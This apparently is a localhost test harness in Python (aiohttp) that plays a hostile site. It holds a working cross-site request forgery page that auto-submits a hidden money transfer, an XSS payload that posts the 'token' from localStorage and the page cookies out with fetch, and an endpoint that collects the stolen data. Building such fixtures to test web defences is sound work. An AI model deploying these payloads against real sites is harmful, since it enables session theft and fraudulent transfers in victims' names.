"""A site of somebody else, on this machine only: a page that sends a form to its target, and a place where stolen things arrive.

>>> print(message_that_steals("http://127.0.0.1:9")[:50])
<img src=x onerror="fetch('http://127.0.0.1:9/loot
"""

from __future__ import annotations

import json

from aiohttp import web

from ...escaping import escaped

LOOT: web.AppKey[list[object]] = web.AppKey("LOOT", list)
TARGET = web.AppKey("TARGET", str)

PAGE = """<!doctype html>
<html lang="en"><meta charset="utf-8"><title>You have won</title>
<h1>You have won</h1>
<form id="form" action="{target}/transfer" method="post">
<input type="hidden" name="to" value="attacker@example.com"><input type="hidden" name="amount" value="100">
<button>Collect your prize</button>
</form>
<script>document.getElementById("form").submit()</script>
</html>
"""


def message_that_steals(address: str) -> str:
    """A message for the board; where it is shown as HTML, it sends what script can read to `address`."""
    loot = "JSON.stringify({localStorage: localStorage.getItem('token'), cookie: document.cookie})"
    return f"""<img src=x onerror="fetch('{address}/loot', {{method: 'POST', mode: 'no-cors', body: {loot}}})">"""


async def prize(request: web.Request) -> web.Response:
    return web.Response(
        text=PAGE.format(target=escaped(request.app[TARGET])), content_type="text/html"
    )


async def collect(request: web.Request) -> web.Response:
    request.app[LOOT].append(json.loads(await request.text()))
    return web.Response(status=204)


def make_app(target: str) -> web.Application:
    """The attacker's site; visiting it sends a transfer to `target` in the visitor's name. What arrives is in `app[LOOT]`."""
    app = web.Application()
    app[TARGET], app[LOOT] = target, []
    app.router.add_get("/", prize)
    app.router.add_post("/loot", collect)
    return app
